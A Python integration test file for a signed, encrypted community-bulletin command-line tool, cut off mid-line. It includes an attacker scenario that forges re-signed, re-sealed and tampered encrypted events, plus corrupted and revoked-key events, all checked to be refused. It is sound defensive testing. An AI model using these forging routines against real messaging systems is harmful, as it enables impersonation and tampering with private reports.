#!/usr/bin/python3
"""
Integration tests of the `watchmesh` command line, each run as its own
meson test:  test_cli.py WATCHMESH TEST [SOURCE_ROOT]

  import   the import acceptance: good events of every kind plus exactly
           four bad ones (a flipped byte, a non-canonical integer, a
           resident's bulletin, a bulletin by a revoked officer), in an order
           where certificates come last
  resync   a damaged length byte and a truncated end cost one event each
  search   Chinese search, including the two-character words 诈骗 and 走失
  pii      personal data refused before signing; --allow-personal-data
  sealed   a sealed request opens with its recipients' and the author's keys only
           (--to officers); a sealed reply; a referral re-sealed for an office
  sealed_attacks  issue 8, item 8: a box re-signed, re-sealed, cut, given a
           topic in clear or changed is refused, never shown as the forger's;
           the bytes name no recipient, topic or language, the length is padded
  errors   bad command lines and broken files: one line, non-zero exit
  post     what post puts in an event: defaults, circle, photo, expiry, refs
  check    export, then the independent Python check of the bundle
  vouched  a vouched group takes certified residents only
  escape   terminal escapes (issue 8, item 4): refused at import, a sealed
           text that breaks the rule not shown, names escaped on screen
  chain    prev chains from the signer's heads file: posts in a group chain,
           an alert points back without breaking it, a lost heads file
           starts a new branch, each group its own chain, certificates too
  othernet another network's bundle (issue 8, item 5): nothing stored, each
           event refused naming both networks; a network file without an id
           refused
  keys     key files and file modes (issue 8, item 11): weak passphrases
           refused with the reason, the levels recorded in the files, an old
           key file opens, echo back after Ctrl-C / Ctrl-Z / kill at the
           prompt, store.db, -wal, -shm and a bundle 0600 in a 0755 directory
  revoke   a stolen officer key and a stolen station key (issue 8, items 1
           and 2): events crafted with the stolen keys, dated before the
           revoke, refused and never shown; the real history stays official;
           a rogue station's revokes undone by root's revoke of it
  personal personal data that slipped through (issue 8, item 12): numbers
           spelt with dots, slashes, zero-width spaces, ① or 𝟏 refused;
           EXIF GPS, XMP and PNG text stripped from photos; damaged photos
           refused; ordinary bulletins still pass
  certflood 4,100 junk certs from another station for an officer (issue 8,
           item 3): refused past the limit for a passing reason; his
           bulletin is still official, under his own name
  retractvouched a retract of an unknown id by an uncertified key in a
           vouched group (issue 8, item 13): refused as not vouched
  revokedname after an officer's revoke, his later posts show a plain key
           (issue 8, item 14), his earlier ones his name
  exportout export --out (issue 12, item 5): a symlink, a FIFO, a directory,
           /dev/null (even with --force) refused with the reason and left as
           they were; an existing file only with --force; a failed export
           leaves no file
  fifo     a FIFO as import bundle, --text-file, --photo, key file (issue 12,
           item 6): refused at once; --passphrase-file may be a pipe with a
           writer, and one with none is given up after 30 s
"""
import hashlib
import json
import os
import re
import stat
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import nacl.signing  # noqa: E402
import wmtest  # noqa: E402
from wmtest import check, Failure  # noqa: E402

G = "gaobu.xinhua"
PASS = None  # set per test through env


def seal_ad(kind, net, author, group):
    """PROTOCOL.md section 6: what a box is bound to besides its slots."""
    g = group.encode()
    return b"watchmesh sealed 2" + bytes([kind]) + net + author + bytes([len(g)]) + g


def seal_inner(seed, kind, net, group, recipients, text, topic="", lang=""):
    """The inside of a box, signed by the author whose seed is given."""
    from nacl.signing import SigningKey
    author = bytes(SigningKey(seed).verify_key)
    body = (bytes([len(recipients)]) + b"".join(recipients) + bytes([len(topic.encode())]) +
            topic.encode() + bytes([len(lang)]) + lang.encode() + text.encode())
    sig = SigningKey(seed).sign(hashlib.sha256(seal_ad(kind, net, author, group) + body).digest()).signature
    return sig + body


def seal_box(inner, ad, recipients, author):
    """Section 6 with PyNaCl: count, nonce, slots (recipients, then the
    author), XChaCha20-Poly1305 of the inside padded to 256 over ad || the clear part."""
    from nacl.bindings import crypto_aead_xchacha20poly1305_ietf_encrypt, crypto_sign_ed25519_pk_to_curve25519
    from nacl.public import PublicKey, SealedBox
    k, nonce = os.urandom(32), os.urandom(24)
    hdr = bytes([len(recipients)]) + nonce + b"".join(
        SealedBox(PublicKey(crypto_sign_ed25519_pk_to_curve25519(pk))).encrypt(k) for pk in recipients + [author])
    p = inner + b"\x80"
    p += bytes(-len(p) % 256)
    return hdr + crypto_aead_xchacha20poly1305_ietf_encrypt(p, ad + hdr, nonce, k)


def seal_open(box, ad, seed):
    """The inside of a box for the recipient whose seed is given (padding removed)."""
    from nacl.bindings import (crypto_aead_xchacha20poly1305_ietf_decrypt, crypto_box_seal_open,
                               crypto_sign_ed25519_pk_to_curve25519, crypto_sign_ed25519_sk_to_curve25519,
                               crypto_sign_seed_keypair)
    import nacl.exceptions
    pk, sk = crypto_sign_seed_keypair(seed)
    xpk, xsk = crypto_sign_ed25519_pk_to_curve25519(pk), crypto_sign_ed25519_sk_to_curve25519(sk)
    hdr = 25 + 80 * (box[0] + 1)
    for i in range(box[0]):
        try:
            k = crypto_box_seal_open(box[25 + 80 * i:25 + 80 * (i + 1)], xpk, xsk)
        except nacl.exceptions.CryptoError:
            continue
        m = crypto_aead_xchacha20poly1305_ietf_decrypt(box[hdr:], ad + box[:hdr], box[1:25], k)
        return m.rstrip(b"\0")[:-1]
    raise Failure("no slot of the box opens for this key")


def refused_lines(err):
    return [l for l in err.splitlines() if l.startswith("watchmesh: event ")]


def summary(out):
    lines = [l for l in out.splitlines() if " events: " in l]
    check(len(lines) == 1, "no summary line in:\n" + out)
    return lines[0]


def good_events(env, node):
    """Events of several kinds on `node`; returns nothing, they are in the store."""
    b = env.post("bulletin", node, "officer.key", "--group", G, "--title", "防诈骗提醒",
                 "--text", "近日有人冒充公检法诈骗，请勿向陌生账户转账。", "--category", "fraud")
    with open(env.path("tiny.png"), "wb") as f:
        f.write(bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                              "1f15c4890000000b4944415478da636000020000050001e9fadcd80000000049454e44ae426082"))
    a = env.post("alert", node, "officer.key", "--group", G, "--headline", "寻找走失老人",
                 "--text", "78岁男性，身穿蓝色外套，于新华村口走失。", "--area", "新华村",
                 "--circle", "22.5431,114.0579,2000", "--photo", "tiny.png", "--expires", "6h")
    r = env.post("request", node, "res1.key", "--group", G, "--topic", "dispute",
                 "--text", "楼上漏水，协商不成，希望调解。")
    env.post("reply", node, "officer.key", "--group", G, "--reply-to", r[:8],
             "--text", "已转交调解中心。")
    env.post("status", node, "officer.key", "--group", G, "--ref", r, "--state", "referred",
             "--referred-to", "新华村调解中心")
    env.post("ack", node, "res2.key", "--group", G, "--ref", a, "--what", "helping")
    env.post("reply", node, "res2.key", "--group", G, "--ref", a, "--text", "好像在菜市场见过他。")
    env.post("request", node, "res2.key", "--group", G, "--text", "想咨询防盗门。",
             "--to", "officer.key")
    return b, a, r


def t_import(env):
    env.world("a")
    good_events(env, "a")
    # a second officer, who posts once, then is revoked
    env.key("officer2.key", encrypted=True)
    env.cert("station.key", "officer2.key", "officer", "赵警官", G, node="a")
    env.post("bulletin", "a", "officer2.key", "--group", G, "--title", "交通提示",
             "--text", "明早修路，请绕行。", "--category", "traffic")
    wmtest.sleep_ms(20)
    env.run("cert", "revoke", "--issuer", "station.key", "--passphrase-file", env.passfile,
            "--subject", "officer2.key", "--reason", "调离", "--dir", "a", "--yes")
    wmtest.sleep_ms(20)
    out, _ = env.run("export", "--dir", "a", "--out", "good.wm")
    good = wmtest.read_bundle(env.path("good.wm"))
    good_ids = set(wmtest.event_id(w) for w in good)
    check(len(good) == len(good_ids) == len(env.feed_ids("a")), "export does not match the feed")
    check(len(good) >= 15, "expected many good events, got %d" % len(good))

    # bad 1: a flipped byte inside a signed bulletin's text (its content)
    env.post("bulletin", None, "officer.key", "--group", G, "--title", "夜间巡逻",
             "--text", "今晚加强巡逻。", "--out", "b1.wm")
    w = bytearray(open(env.path("b1.wm"), "rb").read())
    i = w.find("巡逻".encode())
    check(i > 0, "text not found in the wire bytes")
    w[i] ^= 0x01
    bad1 = bytes(w)
    # bad 2: a resident's reply with version written as 0xcc 0x02, re-signed
    env.post("reply", None, "res1.key", "--group", G, "--ref", "00" * 32, "--text", "收到",
             "--out", "b2.wm")
    payload, _, content = wmtest.unwrap(open(env.path("b2.wm"), "rb").read())
    check(payload[:2] == b"\x9a\x02", "unexpected payload start")
    bad2, bad2_id = wmtest.wrap(b"\x9a\xcc\x02" + payload[2:], wmtest.key_seed(env.path("res1.key")), content)
    # bad 3: a bulletin signed by a resident
    env.post("bulletin", None, "res1.key", "--group", G, "--title", "假通知", "--text", "冒充",
             "--out", "b3.wm")
    bad3 = open(env.path("b3.wm"), "rb").read()
    # bad 4: a bulletin by officer2, signed after the revocation
    env.post("bulletin", None, "officer2.key", "--group", G, "--title", "过期", "--text", "已调离",
             "--out", "b4.wm")
    bad4 = open(env.path("b4.wm"), "rb").read()

    # certificates last, bad ones scattered
    evs = list(reversed(good))
    mixed = evs[:3] + [bad1] + evs[3:6] + [bad2] + evs[6:9] + [bad3] + evs[9:] + [bad4]
    with open(env.path("mixed.wm"), "wb") as f:
        f.write(b"".join(mixed))

    env.run("init", "b", "--network", "net")
    out, err = env.run("import", "--dir", "b", "mixed.wm")
    lines = refused_lines(err)
    check(len(lines) == 4, "expected exactly 4 refusals, got:\n" + err)
    text = "\n".join(lines).lower()
    for word in ("content_hash", "canonical", "official", "revoked"):
        check(word in text, "no refusal mentions '%s':\n%s" % (word, err))
    pos = {mixed.index(x) + 1 for x in (bad1, bad2, bad3, bad4)}
    for n in pos:
        check(any(l.startswith("watchmesh: event %d " % n) for l in lines),
              "event %d not reported:\n%s" % (n, err))
    check(bad2_id[:8] in text, "the non-canonical event's id prefix is not reported")
    s = summary(out)
    want = "%d events: %d stored, 0 duplicates, 4 refused" % (len(mixed), len(good))
    check(s == want, "summary %r, expected %r" % (s, want))
    check(set(env.feed_ids("b")) == good_ids, "node b does not hold exactly the good events")
    env.run("export", "--dir", "b", "--out", "b.wm")
    check(set(wmtest.event_id(x) for x in wmtest.read_bundle(env.path("b.wm"))) == good_ids,
          "node b's export differs")
    # again: all duplicates; bad ones reported again (refused earlier)
    out, err = env.run("import", "--dir", "b", "mixed.wm")
    check(summary(out) == "%d events: 0 stored, %d duplicates, 4 refused" % (len(mixed), len(good)),
          "second import: " + summary(out))
    # the official badge survives the trip
    feed = env.json("feed", "--dir", "b", "--json", "--kind", "bulletin")
    off = [e for e in feed if e["official"] and e.get("official_name") == "王警官"]
    check(off and off[0]["official_station"] == "高埔派出所", "no official badge after import")


def t_resync(env):
    env.world("a")
    good_events(env, "a")
    env.run("export", "--dir", "a", "--out", "good.wm")
    evs = wmtest.read_bundle(env.path("good.wm"))
    n = len(evs)
    k = n // 2
    # flip the payload length byte of event k (0xc4 LL or 0xc5 HH LL)
    e = bytearray(evs[k])
    check(e[0] == 0x93 and e[1] in (0xc4, 0xc5), "unexpected wrapper")
    e[2 if e[1] == 0xc4 else 3] ^= 0x40
    damaged = b"".join(evs[:k]) + bytes(e) + b"".join(evs[k + 1:])
    # and cut the last event short
    last = evs[-1]
    with open(env.path("flipped.wm"), "wb") as f:
        f.write(damaged)
    with open(env.path("damaged.wm"), "wb") as f:
        f.write(damaged + last[:len(last) // 2])
    # a flipped length byte alone: reported, the rest stored, exit 0
    env.run("init", "c", "--network", "net")
    out, err = env.run("import", "--dir", "c", "flipped.wm", rc=0)
    check(len(refused_lines(err)) == 1, "flipped length: one report expected:\n" + err)
    check(summary(out) == "%d events: %d stored, 0 duplicates, 1 refused" % (n, n - 1),
          "flipped summary: " + summary(out))
    # and cut short at the end as well: the file could not be read whole, exit 1
    env.run("init", "b", "--network", "net")
    out, err = env.run("import", "--dir", "b", "damaged.wm", rc=1)
    lines = refused_lines(err)
    check(len(lines) == 2, "expected 2 reports (damaged, truncated):\n" + err)
    check(any("event %d " % (k + 1) in l for l in lines), "damaged event not reported at %d" % (k + 1))
    check("end" in lines[-1] or "truncat" in lines[-1].lower(), "truncation not named: " + lines[-1])
    check(summary(out) == "%d events: %d stored, 0 duplicates, 2 refused" % (n + 1, n - 1),
          "summary: " + summary(out))
    held = set(env.feed_ids("b"))
    check(wmtest.event_id(evs[k]) not in held, "the damaged event was stored")
    check(len(held) == n - 1, "expected %d events, hold %d" % (n - 1, len(held)))


def t_search(env):
    env.world("v")
    b = env.post("bulletin", "v", "officer.key", "--group", G, "--title", "警惕电信诈骗",
                 "--text", "有老人走失后，骗子冒充警察打电话索要赎金。遇到此类诈骗请拨打110。",
                 "--category", "fraud")
    other = env.post("bulletin", "v", "officer.key", "--group", G, "--title", "停水通知",
                     "--text", "明天上午九点到十二点停水。")
    for word in ("诈骗", "走失", "冒充警察", "110"):
        res = env.json("search", word, "--dir", "v", "--json")
        ids = [e["id"] for e in res]
        check(ids == [b], "search %s: %r, expected only the fraud bulletin" % (word, ids))
    res = env.json("search", "停水", "--dir", "v", "--json")
    check([e["id"] for e in res] == [other], "search 停水")
    res = env.json("search", "诈骗", "停水", "--dir", "v", "--json")
    check(res == [], "two words must both match")
    res = env.json("search", "地震", "--dir", "v", "--json")
    check(res == [], "nothing should match 地震")
    out, _ = env.run("search", "走失", "--dir", "v")
    check("警惕电信诈骗" in out and "★ 王警官" in out, "text search output:\n" + out)
    res = env.json("search", "诈骗", "--dir", "v", "--group", "other.group", "--json")
    check(res == [], "group filter")
    # widths folded both ways; categories by name and by their Chinese
    w = env.post("bulletin", "v", "officer.key", "--group", G, "--title", "捡到钱包",
                 "--text", "３栋门口捡到，失主７８岁请来认领", "--category", "lost-found")
    fire = env.post("alert", "v", "officer.key", "--group", G, "--headline", "仓库冒烟",
                    "--text", "请远离", "--area", "5栋", "--category", "Fire")
    for q, want in (("3栋", [w]), ("３栋", [w]), ("78岁", [w]), ("７８岁", [w]), ("５栋", [fire]),
                    ("失物招领", [w]), ("lost-found", [w]), ("火灾", [fire]), ("fire", [fire]),
                    ("防诈骗", [b]), ("fraud", [b])):
        res = env.json("search", q, "--dir", "v", "--json")
        check([e["id"] for e in res] == want, "search %s: %r, expected %r" % (q, [e["id"] for e in res], want))


def t_pii(env):
    env.world("v")
    before = len(env.feed_ids("v"))
    cases = [("联系人手机13812345678", "138****5678"),
             ("身份证号11010519491231002X已报案", "110"),
             ("被骗至卡号6222020200000000006转账", "6222")]
    for text, masked in cases:
        out, err = env.run("post", "bulletin", "--dir", "v", "--key", "officer.key",
                           "--passphrase-file", env.passfile, "--group", G, "--title", "案例",
                           "--text", text, rc=1)
        lines = err.strip().splitlines()
        check(len(lines) == 1 and lines[0].startswith("watchmesh: refused:"), "one line:\n" + err)
        check(masked in lines[0] and "--allow-personal-data" in lines[0], "masked sample: " + err)
        check(out == "", "an id was printed for a refused post")
    # masked: the whole number never appears
    check("13812345678" not in err, "the number itself was printed")
    check(len(env.feed_ids("v")) == before, "a refused post was stored")
    i = env.post("bulletin", "v", "officer.key", "--group", G, "--title", "案例",
                 "--text", "联系人手机13812345678", "--allow-personal-data")
    check(len(i) == 64 and i in env.feed_ids("v"), "--allow-personal-data did not publish")
    # the alert's other public fields are checked too
    env.post("alert", "v", "officer.key", "--group", G, "--headline", "寻人", "--text", "走失",
             "--area", "新华村", "--contact", "139 1234 5678", rc=1)
    # a sealed request is private: no check
    env.post("request", "v", "res1.key", "--group", G, "--text", "我的电话13812345678",
             "--to", "officer.key")
    # dates and amounts are not personal data
    env.post("bulletin", "v", "officer.key", "--group", G, "--title", "案例",
             "--text", "2026年11月29日，居民损失50000元。")


def t_sealed(env):
    """A sealed request opens with its recipients' and its author's keys
    only; `--to officers` is the group's officers and stations; a sealed
    reply opens for its recipients only; an officer refers the request to
    an office by re-sealing it, and the office reads it, nobody else."""
    env.world("v")
    secret = "我怀疑隔壁在做传销，请勿透露我的身份。"
    rid = env.post("request", "v", "res1.key", "--group", G, "--topic", "dispute",
                   "--text", secret, "--to", "officers")

    def opened(eid, *key):
        a = ["feed", "--dir", "v", "--json", "--all"]
        if key:
            a += ["--key", key[0]]
            if wmtest.key_encrypted(env.path(key[0])):
                a += ["--passphrase-file", env.passfile]
        evs = [e for e in env.json(*a) if e["id"] == eid]
        check(len(evs) == 1, "%s not in feed" % eid)
        check(set(evs[0]["content"]) <= {"box", "state", "referred_to", "note"},
              "a sealed event carries more than its box in clear: %r" % evs[0]["content"])
        return evs[0]

    officer = env.run("key", "show", "officer.key")[0].strip()
    station = env.run("key", "show", "station.key")[0].strip()
    e = opened(rid, "officer.key")
    check(e.get("private_text") == secret and e.get("private_topic") == "dispute" and
          e.get("private_lang") == "zh", "the officer cannot read it: %r" % e)
    check(sorted(e.get("private_to", [])) == sorted([officer, station]),
          "--to officers is not the officer and the station: %r" % e.get("private_to"))
    check(opened(rid, "station.key").get("private_text") == secret, "the station cannot read it")
    check(opened(rid, "res1.key").get("private_text") == secret, "the author cannot read it")
    check("private_text" not in opened(rid, "res2.key"), "another resident can read it")
    check("private_text" not in opened(rid), "readable without a key")
    out, _ = env.run("feed", "--dir", "v", "--key", "res2.key")
    check("[sealed request to 2 recipients]" in out and secret not in out, "feed as res2:\n" + out)
    out, _ = env.run("show", rid[:10], "--dir", "v", "--key", "officer.key",
                     "--passphrase-file", env.passfile)
    check(secret in out and "private" in out and "topic: dispute" in out, "show as officer:\n" + out)

    # a sealed reply: res1 reads it, res2 does not
    answer = "已安排民警了解情况，会为您保密。"
    pid = env.post("reply", "v", "officer.key", "--group", G, "--reply-to", rid[:10],
                   "--text", answer, "--to", "res1.key")
    check(opened(pid, "res1.key").get("private_text") == answer, "res1 cannot read the sealed reply")
    check(opened(pid, "officer.key").get("private_text") == answer, "its author cannot read the reply")
    check("private_text" not in opened(pid, "res2.key"), "res2 reads a reply sealed to res1")

    # the referral: the office reads the request re-sealed for it, nobody else
    env.key("office.key")
    sid = env.post("status", "v", "officer.key", "--group", G, "--ref", rid[:10], "--state", "referred",
                   "--referred-to", "新华村调解中心", "--to", "office.key")
    e = opened(sid, "office.key")
    check(e.get("private_text") == secret and e.get("private_topic") == "dispute",
          "the office cannot read the referred request: %r" % e)
    for k in ("res2.key", "station.key"):
        check("private_text" not in opened(sid, k), k + " reads the referral to the office")
    out, _ = env.run("show", sid[:10], "--dir", "v", "--key", "office.key")
    check("referred → 新华村调解中心" in out and secret in out, "show as the office:\n" + out)
    # only a request sealed to the officer can be re-sealed by it; only for a referral
    pub = env.post("request", "v", "res1.key", "--group", G, "--text", "路灯坏了。")
    _, err = env.run("post", "status", "--dir", "v", "--key", "officer.key", "--passphrase-file",
                     env.passfile, "--group", G, "--ref", pub[:10], "--state", "referred",
                     "--to", "office.key", rc=1)
    check("not a sealed request" in err, "re-sealing a public request: " + err)
    _, err = env.run("post", "status", "--dir", "v", "--key", "office.key", "--group", G,
                     "--ref", rid[:10], "--state", "referred", "--to", "res2.key", rc=1)
    check("not sealed to your key" in err, "re-sealing a request one cannot open: " + err)
    env.run("post", "status", "--dir", "v", "--key", "officer.key", "--passphrase-file", env.passfile,
            "--group", G, "--ref", rid[:10], "--state", "assigned", "--to", "office.key", rc=2)

    env.run("export", "--dir", "v", "--out", "v.wm")
    for f in ("v.wm", "v/store.db"):
        data = open(env.path(f), "rb").read()
        check(secret.encode() not in data and answer.encode() not in data, "plaintext in " + f)


def t_sealed_attacks(env):
    """Issue 8, item 8, as Mallory (res2, PyNaCl) does it.  Alice (res1)
    seals a request to the officer and to Mallory.  Mallory re-signs the box
    under her own key, seals its opened inside as her own, drops the
    officer's slot, adds a topic in clear, flips a byte: each is refused on
    import or shown as refused, never as Mallory's text.  The event bytes
    name no recipient, topic or language, and two texts of different lengths
    make boxes of one length."""
    import base64
    import time as _t

    env.world("v")
    net = wmtest.network_id(env.path("net"))
    officer = bytes.fromhex(env.run("key", "show", "officer.key")[0].strip())
    alice = bytes.fromhex(env.run("key", "show", "res1.key")[0].strip())
    mseed = wmtest.key_seed(env.path("res2.key"))
    mallory = bytes(nacl.signing.SigningKey(mseed).verify_key)
    secret = "楼上502的人在家里赌博，别说是我举报的。"
    rid = env.post("request", "v", "res1.key", "--group", G, "--topic", "police", "--text", secret,
                   "--to", "officer.key,res2.key")
    short = env.post("request", "v", "res1.key", "--group", G, "--topic", "other", "--text", "求助",
                     "--to", "officer.key", "--lang", "en")

    def event_json(eid, key=None):
        a = ["feed", "--dir", "v", "--json", "--all"]
        if key:
            a += ["--key", key] + (["--passphrase-file", env.passfile] if key == "officer.key" else [])
        evs = [e for e in env.json(*a) if e["id"] == eid]
        check(len(evs) == 1, eid + " not in the feed")
        return evs[0]

    box = base64.b64decode(event_json(rid)["content"]["box"])
    sbox = base64.b64decode(event_json(short)["content"]["box"])

    # what a third party sees: the box only, no recipient, topic or language;
    # 1 and 60 bytes of text make boxes of one length
    env.run("export", "--dir", "v", "--out", "v.wm")
    wires = {wmtest.event_id(w): w for w in wmtest.read_bundle(env.path("v.wm"))}
    for eid in (rid, short):
        w = wires[eid]
        _, _, content = wmtest.unwrap(w)
        check(list(wmtest.msgpack.unpackb(content, raw=False)) == ["box"],
              "more than the box in clear: %r" % wmtest.msgpack.unpackb(content, raw=False).keys())
        for what in (officer, mallory, b"police", b"other", b"lang", b"topic"):
            check(what not in w, "the event's bytes show %r" % what)
    check(len(box) == len(sbox) + 80, "the box's length follows the text: %d and %d (one slot apart)"
          % (len(box), len(sbox)))

    now = int(_t.time() * 1000)

    def forged(content, dt):
        return wmtest.event(mseed, 3, now + dt, G, content, network=net)

    # 1 Alice's box re-signed under Mallory's key; 2 its inside (with Alice's
    # signature) sealed again under Mallory's key; 3 a recipient's slot
    # dropped (Mallory's: the officer's stays); 4 a topic added in clear;
    # 5 a byte flipped in the text
    inner = seal_open(box, seal_ad(3, net, alice, G), mseed)
    resealed = seal_box(inner, seal_ad(3, net, mallory, G), [officer, mallory], mallory)
    dropped = bytes([1]) + box[1:25 + 80] + box[25 + 160:]
    flipped = box[:-20] + bytes([box[-20] ^ 1]) + box[-19:]
    attacks = [forged({"box": box}, 1), forged({"box": resealed}, 2), forged({"box": dropped}, 3),
               forged({"box": box, "topic": "other"}, 4), forged({"box": flipped}, 5)]
    with open(env.path("mallory.wm"), "wb") as f:
        f.write(b"".join(w for w, _ in attacks))
    out, err = env.run("import", "--dir", "v", "mallory.wm")
    lines = refused_lines(err)
    check(len(lines) == 1 and lines[0].startswith("watchmesh: event 4 ") and
          "carries 'topic' inside its box, never in clear" in lines[0], "the clear topic: " + err)
    check(summary(out) == "5 events: 4 stored, 0 duplicates, 1 refused", "summary: " + summary(out))

    want = {attacks[0][1]: "the box does not open", attacks[1][1]: "not bound to this author",
            attacks[2][1]: "the box does not open", attacks[4][1]: "the box does not open"}
    for eid, why in want.items():
        e = event_json(eid, "officer.key")
        check("private_text" not in e and why in e.get("private_refused", ""),
              "%s as the officer: %r" % (eid[:8], e))
        out, _ = env.run("show", eid[:10], "--dir", "v", "--key", "officer.key",
                         "--passphrase-file", env.passfile)
        check(secret not in out and "not shown: " in out and why in out and "陈先生" in out,
              "show as the officer:\n" + out)
    out, _ = env.run("feed", "--dir", "v", "--key", "officer.key", "--passphrase-file", env.passfile)
    check(out.count(secret) == 1, "the officer's feed shows Alice's text other than once:\n" + out)
    # Alice's own request still opens for the officer, and for Mallory, a recipient
    for key in ("officer.key", "res2.key"):
        check(event_json(rid, key).get("private_text") == secret, "%s cannot read Alice's request" % key)


def t_errors(env):
    env.world("v")
    with open(env.path("garbage.key"), "wb") as f:
        f.write(os.urandom(300))
    with open(env.path("garbage.net"), "w") as f:
        f.write("hello\n")
    env.run("export", "--dir", "v", "--out", "good.wm")
    data = open(env.path("good.wm"), "rb").read()
    with open(env.path("trunc.wm"), "wb") as f:
        f.write(data[:len(data) - 10])
    with open(env.path("big.jpg"), "wb") as f:
        f.write(b"\xff\xd8\xff\xe0" + os.urandom(60000))
    with open(env.path("notimage.png"), "wb") as f:
        f.write(b"not an image at all")
    P = ["--passphrase-file", env.passfile]
    cases = [
        ["frobnicate"],
        ["post"],
        ["post", "gossip", "--dir", "v", "--key", "officer.key", "--group", G],
        ["post", "bulletin", "--dir", "v", "--group", G, "--title", "t", "--text", "x"],
        ["post", "bulletin", "--dir", "v", "--key", "garbage.key", "--group", G, "--title", "t", "--text", "x"],
        ["post", "bulletin", "--dir", "v", "--key", "nonexistent.key", "--group", G, "--title", "t", "--text", "x"],
        ["post", "bulletin", "--dir", "v", "--key", "officer.key", "--group", G, "--title", "t"],
        ["post", "bulletin", "--dir", "v", "--key", "officer.key", "--group", "Bad Group!", "--title", "t", "--text", "x"],
        ["post", "bulletin", "--dir", "v", "--key", "officer.key", "--group", G, "--title", "t", "--text", "x", "--category", "gossip"] + P,
        ["post", "bulletin", "--dir", "v", "--key", "officer.key", "--group", G, "--title", "t", "--text", "x", "--headline", "h"],
        ["post", "bulletin", "--dir", "v", "--key", "officer.key", "--group", G, "--title", "t", "--text", "x"],
        ["post", "bulletin", "--dir", "v", "--key", "officer.key", "--group", G, "--title", "t", "--text", "x", "--passphrase-file", "garbage.net"],
        ["post", "alert", "--dir", "v", "--key", "officer.key", "--group", G, "--headline", "h", "--text", "x"],
        ["post", "alert", "--dir", "v", "--key", "officer.key", "--group", G, "--headline", "h", "--text", "x", "--area", "a", "--expires", "yesterday"] + P,
        ["post", "alert", "--dir", "v", "--key", "officer.key", "--group", G, "--headline", "h", "--text", "x", "--area", "a", "--circle", "95,1,10"] + P,
        ["post", "alert", "--dir", "v", "--key", "officer.key", "--group", G, "--headline", "h", "--text", "x", "--area", "a", "--photo", "big.jpg"] + P,
        ["post", "alert", "--dir", "v", "--key", "officer.key", "--group", G, "--headline", "h", "--text", "x", "--area", "a", "--photo", "notimage.png"] + P,
        ["post", "reply", "--dir", "v", "--key", "res1.key", "--group", G, "--text", "x"],
        ["post", "reply", "--dir", "v", "--key", "res1.key", "--group", G, "--text", "x", "--ref", "abcdef12"],
        ["post", "request", "--dir", "v", "--key", "res1.key", "--group", G, "--text", "x", "--to", "nobody"],
        ["feed"],
        ["feed", "--dir", "missing-dir"],
        ["feed", "--dir", "v", "--kind", "gossip"],
        ["feed", "--dir", "v", "--limit", "many"],
        ["show", "zz", "--dir", "v"],
        ["show", "0123456789abcdef", "--dir", "v"],
        ["import", "--dir", "v", "missing.wm"],
        ["import", "--dir", "missing-dir", "good.wm"],
        ["import", "--dir", "v", "trunc.wm"],
        ["import", "--dir", "v", "garbage.key"],
        ["export", "--dir", "v"],
        ["export", "--dir", "v", "--out", "no/such/dir/x.wm"],
        ["init", "v", "--network", "net"],
        ["init", "w", "--network", "garbage.net"],
        ["init", "w"],
        ["network", "create", "--name", "x", "--out", "net2"],
        ["network", "create", "--name", "x", "--out", "net"] + P,
        ["key", "new", "--out", "k.key"],
        ["key", "new", "--out", "officer.key", "--no-passphrase"],
        ["key", "show", "garbage.key"],
        ["key", "show"],
        ["cert", "issue", "--issuer", "station.key", "--subject", "res1.key", "--role", "mayor", "--name", "n", "--groups", G, "--dir", "v"],
        ["cert", "issue", "--issuer", "station.key", "--subject", "res1.key", "--role", "resident", "--name", "n", "--groups", G],
        ["cert", "issue", "--issuer", "garbage.key", "--subject", "res1.key", "--role", "resident", "--name", "n", "--groups", G, "--dir", "v"],
        ["search", "--dir", "v"],
        ["post", "bulletin", "--dir", "v", "--key", "officer.key", "--key", "res1.key", "--group", G],
        ["run"],
    ]
    for c in cases:
        out, err = env.run(*c, rc="nonzero")
        lines = [l for l in err.splitlines() if l.strip()]
        # import of a damaged file prints the damage report (one line) and a summary on stdout
        check(len(lines) == 1, "expected one line on stderr for %s, got:\n%s" % (c, err))
        check(lines[0].startswith("watchmesh"), "not prefixed: %r" % lines[0])
    # help works everywhere
    for c in (["--help"], ["post", "--help"], ["import", "--help"], ["cert", "--help"],
              ["feed", "--help"], ["key", "--help"], ["network", "--help"], ["init", "--help"],
              ["search", "--help"], ["show", "--help"], ["export", "--help"], ["run", "--help"]):
        out, _ = env.run(*c)
        check(out.startswith("usage:") or out.startswith("watchmesh"), "help for %s" % c)
    out, _ = env.run("post", "--help")
    for word in ("Immediate", "Severe", "Observed", "Safety", "--allow-personal-data"):
        check(word in out, "post --help does not list the default " + word)
    # the daemon refuses to start, in one line, on a missing dir (its own
    # tests are in test_mesh.py)
    out, err = env.run("run", "nowhere", rc=1)
    check("no data directory" in err and len(err.strip().splitlines()) == 1, "run's message")
    # nothing half-made by the failures
    check(not os.path.exists(env.path("w", "node.key")), "a failed init left a node")
    check(not os.path.exists(env.path("k.key")), "a key without passphrase was written")


def t_check(env):
    root = sys.argv[3] if len(sys.argv) > 3 else os.path.join(os.path.dirname(__file__), "..", "..")
    checker = os.path.join(root, "tests", "independent", "check_events.py")
    if not os.path.exists(checker):
        print("SKIP: no tests/independent/check_events.py")
        return 77
    env.world("v")
    good_events(env, "v")
    env.run("cert", "revoke", "--issuer", "station.key", "--passphrase-file", env.passfile,
            "--subject", "res2.key", "--reason", "搬走了", "--dir", "v", "--yes")
    env.run("export", "--dir", "v", "--out", "v.wm")
    p = subprocess.run(["/usr/bin/python3", checker, "--bundle", env.path("v.wm")],
                       capture_output=True, timeout=120)
    env.log.append("$ check_events.py --bundle v.wm\n[exit %d]\n%s%s" % (
        p.returncode, p.stdout.decode(errors="replace"), p.stderr.decode(errors="replace")))
    check(p.returncode == 0, "the independent check failed on the exported bundle")
    # certificates come first in an export
    kinds = []
    import msgpack
    for w in wmtest.read_bundle(env.path("v.wm")):
        kinds.append(msgpack.unpackb(wmtest.unwrap(w)[0], raw=True)[1])
    first_other = next(i for i, k in enumerate(kinds) if k not in (7, 8))
    check(all(k not in (7, 8) for k in kinds[first_other:]), "certificates not first: %r" % kinds)
    check(kinds[:first_other].count(7) == 4 and 8 in kinds[:first_other], "cert/revoke counts")


def t_post(env):
    """What post puts in an event: defaults, conversions, refs by prefix."""
    import base64
    import time as _t
    env.world("v")
    before = int(_t.time() * 1000)
    with open(env.path("p.jpg"), "wb") as f:  # an 8x8 grey JPEG (photos are parsed)
        f.write(bytes.fromhex(
